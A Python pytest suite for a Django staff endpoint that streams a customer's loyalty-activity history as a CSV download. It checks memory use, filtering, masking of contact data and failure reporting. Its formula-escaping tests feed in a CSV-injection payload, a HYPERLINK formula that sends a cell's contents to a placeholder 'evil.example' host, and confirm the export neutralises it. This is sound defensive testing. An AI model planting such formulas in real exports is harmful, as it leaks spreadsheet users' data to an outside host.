"""/staff/customer/activities.csv: every activity as a file, written while it is read."""

import csv
import io
import tracemalloc
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from pytest_django import Settings

from gameball.api import ActivityPage
from gameball.language import Language
from gameball.models import Audit
from gameball.panels.formats import Formats
from gameball.reads import reader
from gameball.sandbox import Sandbox
from gameball.staff import export, sheets

from ..pages import Page
from ..telling import Told

EXPORT = "/staff/customer/activities.csv"


def fetch(browser: Client, customer_id: str, **query: str) -> Any:
    return browser.get(EXPORT, {"id": customer_id, **query})


def body(answer: Any) -> str:
    assert answer.status_code == 200
    assert isinstance(answer, StreamingHttpResponse)
    return b"".join(answer).decode()


def table(text: str) -> list[dict[str, str]]:
    """The rows between the heading and the last line."""
    *lines, last = text.removeprefix("\ufeff").splitlines()
    assert last.startswith("# ")
    return list(csv.DictReader(io.StringIO("\r\n".join(lines))))


def last(text: str) -> str:
    assert text.endswith("\r\n")
    return text.splitlines()[-1]


@pytest.fixture
def oldest_first(settings: Settings) -> Iterator[Sandbox]:
    with Sandbox(order="asc") as other:
        settings.GAMEBALL_BASE_URL = other.base_url
        reader.cache_clear()
        yield other


def test_the_file_opens_right_in_a_spreadsheet(lead: Client) -> None:
    answer = fetch(lead, "middle")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="activities-middle.csv"'
    assert answer["Cache-Control"] == "private, no-store"
    text = body(answer)
    assert text.startswith("\ufeffactivityId,activityType,")
    assert text.count("\ufeff") == 1
    rows = table(text)
    assert len(rows) == 240
    assert last(text) == "# complete, 240 rows"
    ids = [int(row["activityId"]) for row in rows]
    assert ids == sorted(ids, reverse=True)
    assert sum(int(row["signedPoints"]) for row in rows) == 1500


def test_five_thousand_come_completely_in_constant_memory(lead: Client, sandbox: Sandbox) -> None:
    body(fetch(lead, "ledger"))  # the sandbox makes and keeps its own answers
    answer = fetch(lead, "ledger")
    numbers = rows = 0
    tracemalloc.start()
    try:
        for part in answer:
            numbers = max(numbers, part.count(b"\r\n"))
            rows += part.count(b"\r\n")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert rows == 5_000 + 2
    assert numbers == 200
    assert part == b"# complete, 5000 rows\r\n"
    assert peak < 12 * 2**20


def test_memory_does_not_grow_with_the_number_of_rows(lead: Client, sandbox: Sandbox) -> None:
    first = reader().direct(export_call("ledger"))

    def peak(pages: int) -> int:
        left = iter(range(pages))

        def again(after: int | None) -> ActivityPage:
            number = next(left)
            return ActivityPage(first.activities, None, number < pages - 1, 0, number)

        tracemalloc.start()
        for _ in export.lines(again(None), again, Formats(Language("en", "en"))):
            pass
        top = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return top

    peak(3)
    assert peak(60) < peak(6) * 1.5


def export_call(customer_id: str) -> Any:
    from gameball.api import activities

    return activities.page(customer_id, limit=export.PAGE)


def test_rows_are_read_while_they_are_written(lead: Client, sandbox: Sandbox) -> None:
    answer = fetch(lead, "ledger")
    assert len(sandbox.calls_of("activities")) == 1
    parts = iter(answer)
    next(parts)
    next(parts)
    next(parts)
    assert len(sandbox.calls_of("activities")) == 2
    assert {call.query["limit"] for call in sandbox.calls_of("activities")} == {"200"}
    answer.close()


def test_an_account_that_lists_the_oldest_first_is_exported_in_that_order(lead: Client, oldest_first: Sandbox) -> None:
    text = body(fetch(lead, "ledger"))
    ids = [int(row["activityId"]) for row in table(text)]
    assert len(ids) == len(set(ids)) == 5_000
    assert ids == sorted(ids)
    assert last(text) == "# complete, 5000 rows"


def test_a_filter_narrows_it(lead: Client) -> None:
    text = body(fetch(lead, "middle", type="Redemption"))
    rows = table(text)
    assert len(rows) == 4
    assert {row["activityType"] for row in rows} == {"Redemption", "Points Redeemed"}
    assert Audit.objects.get().detail == "type=Redemption"


@pytest.mark.parametrize("kind", ["Nonsense", "BalanceAdjustment"])
def test_what_cannot_be_filtered_by_is_refused(lead: Client, sandbox: Sandbox, kind: str) -> None:
    assert fetch(lead, "middle", type=kind).status_code == 400
    assert sandbox.calls == []


def test_contact_data_is_not_in_it(lead: Client) -> None:
    text = body(fetch(lead, "middle"))
    assert "thornbury@" not in text
    assert "5550100240" not in text
    assert "Maya Thornbury" not in text
    assert "M••• T•••" in text


def test_a_name_that_is_an_address_is_covered(lead: Client, told: Told) -> None:
    told.activities({"activityType": "Migration", "points": 5, "displayName": "maya@example.com"})
    assert "maya@" not in body(fetch(lead, "middle"))


# Formulas


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" =1+1", "' =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("＝1+1", "'＝1+1"),
        ("-400", "-400"),
        ("+12.5", "+12.5"),
        (-400, "-400"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        ("- a list", "'- a list"),
    ],
)
def test_nothing_in_a_cell_is_run(cell: object, written: str) -> None:
    assert sheets.safe(cell) == written
    assert next(csv.reader(io.StringIO(sheets.line([cell, "x"]), newline=""))) == [written, "x"]


def test_formulas_that_come_from_gameball_are_not_run(lead: Client, told: Told) -> None:
    evil = '=HYPERLINK("https://evil.example/"&A1,"x")'
    fields = ("reason", "campaignName", "tierName", "couponCode", "transactionId", "activityType")
    told.activities({"points": -5, **dict.fromkeys(fields, evil)})
    row = table(body(fetch(lead, "middle")))[0]
    assert {row[field] for field in fields} == {f"'{evil}"}
    assert row["points"] == "-5"


# Gameball in trouble


def test_a_failure_midway_is_said_in_the_last_line(lead: Client, sandbox: Sandbox) -> None:
    parts = iter(fetch(lead, "ledger"))
    text = b"".join(next(parts) for _ in range(3)).decode()
    sandbox.trouble("activities", "5000")
    text += b"".join(parts).decode()
    assert len(table(text)) == 400
    ending = last(text)
    assert ending.startswith("# INCOMPLETE: Gameball has trouble of its own")
    assert "code 5000" in ending
    assert ending.endswith("400 rows")


@pytest.mark.parametrize("kind", ["reset", "html", "429:60", "truncate"])
def test_any_failure_midway_leaves_no_file_that_looks_whole(lead: Client, sandbox: Sandbox, kind: str) -> None:
    parts = iter(fetch(lead, "ledger"))
    text = next(parts).decode()
    sandbox.trouble("activities", kind)
    text += b"".join(parts).decode()
    assert last(text).startswith("# INCOMPLETE: ")
    assert "# complete" not in text


def test_a_failure_before_the_first_row_makes_no_file(lead: Client, sandbox: Sandbox) -> None:
    sandbox.trouble("activities", "5000")
    answer = fetch(lead, "middle")
    assert answer.status_code == 502
    page = Page(answer)
    assert page.faults == []
    assert "No file was made" in page.text
    assert "5000" in page.one(".trouble").text


def test_nobody_enrolled_has_nothing_to_export(lead: Client) -> None:
    answer = fetch(lead, "unknown")
    assert answer.status_code == 404
    assert "knows no customer" in answer.text


def test_rows_that_cannot_be_read_are_counted(lead: Client) -> None:
    text = body(fetch(lead, "odd"))
    rows = table(text)
    assert last(text) == f"# INCOMPLETE: 3 of Gameball's rows could not be read, {len(rows)} rows"


def test_an_empty_account_is_complete(lead: Client) -> None:
    assert last(body(fetch(lead, "new"))) == "# complete, 0 rows"


def page_of(*ids: int, more: bool | None) -> dict[str, object]:
    return {"activities": [{"activityId": each, "points": 1} for each in ids], "hasMore": more}


@pytest.mark.parametrize(
    ("answer", "ending"),
    [
        (
            page_of(9, 8, 7, more=True),
            "# INCOMPLETE: Gameball says that there is more, but not where it goes on, 3 rows",
        ),
        (page_of(9, 8, 7, more=None), "# complete, 3 rows"),
        (
            {"activities": [{"points": 1}], "hasMore": True},
            "# INCOMPLETE: Gameball says that there is more, but not where it goes on, 1 row",
        ),
    ],
)
def test_pages_that_lead_nowhere_end_it(lead: Client, told: Told, answer: object, ending: str) -> None:
    told.say("activities", answer)
    assert last(body(fetch(lead, "middle"))) == ending


# The record


def test_an_export_is_recorded_before_it_begins(lead: Client) -> None:
    answer = fetch(lead, "middle")
    assert [(row.what, row.customer) for row in Audit.objects.all()] == [("export", "middle")]
    answer.close()


@pytest.mark.parametrize("method", ["post", "head", "put"])
def test_it_can_only_be_got(lead: Client, method: str) -> None:
    assert getattr(lead, method)(f"{EXPORT}?id=middle").status_code == 405


def test_an_awkward_id_makes_a_plain_file_name(lead: Client, staff: Callable[..., Client]) -> None:
    answer = fetch(lead, "a/b?c#d%20e 💚")
    assert answer["Content-Disposition"] == 'attachment; filename="activities-a-b-c-d-20e.csv"'
    assert last(body(answer)).startswith("# complete")
    answer = fetch(lead, "مها")
    assert answer.status_code == 404
